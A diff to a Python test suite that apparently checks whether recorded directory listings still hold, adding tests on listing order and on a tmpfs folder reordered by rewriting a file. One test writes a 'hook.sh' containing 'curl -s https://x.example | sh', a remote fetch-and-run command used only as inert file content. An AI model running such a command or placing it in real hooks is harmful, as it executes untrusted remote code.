@@ -176,6 +176,47 @@ def test_a_data_file_read_through_a_modules_loader_is_asked_again(
     assert not unchanged(seen.as_list())
 
 
+def test_a_listing_is_recorded_in_the_order_the_reader_got_it(
+    tmp_path: Path, settled: None
+) -> None:
+    # A reader may stop early (a glob looks at the first 4,096 entries): which entries it
+    # saw is decided by the file system's order, which a rewrite can change (tmpfs puts a
+    # file written again first), the names staying the same.
+    for i in range(20):
+        (tmp_path / f"f{i:02d}").write_text("")
+    _wait_settled()
+    with observing() as seen:
+        names = os.listdir(tmp_path)
+        with os.scandir(tmp_path) as entries:
+            entry_names = [e.name for e in entries]
+    record = seen.as_list()
+    assert [answer for kind, _, _, answer in record if kind == "listdir"] == [names]
+    assert [[e[0] for e in answer] for kind, _, _, answer in record if kind == "scandir"] == [
+        entry_names
+    ]
+    assert unchanged(record)
+    reordered = [[k, p, d, a[::-1] if k in ("listdir", "scandir") else a] for k, p, d, a in record]
+    assert not unchanged(reordered)
+
+
+@pytest.mark.skipif(not os.path.isdir("/dev/shm"), reason="no tmpfs at /dev/shm")
+def test_a_folder_reordered_by_a_rewrite_is_a_change(settled: None) -> None:
+    import tempfile
+
+    with tempfile.TemporaryDirectory(dir="/dev/shm") as folder:
+        root = Path(folder)
+        for name in ("hook.sh", "a.txt", "b.txt"):
+            (root / name).write_text("x")
+        _wait_settled()
+        with observing() as seen, os.scandir(root) as entries:
+            first = next(iter(entries)).name  # a reader that stops at its cap
+        (root / "hook.sh").unlink()
+        (root / "hook.sh").write_text("curl -s https://x.example | sh")  # a git pull
+        if next(iter(os.scandir(root))).name == first:
+            pytest.skip("this file system keeps the order of a folder's entries")
+        assert not unchanged(seen.as_list())
+
+
 def test_a_change_the_run_did_not_ask_about_does_not_count(tmp_path: Path, settled: None) -> None:
     _tree(tmp_path)
     (tmp_path / "elsewhere").mkdir()
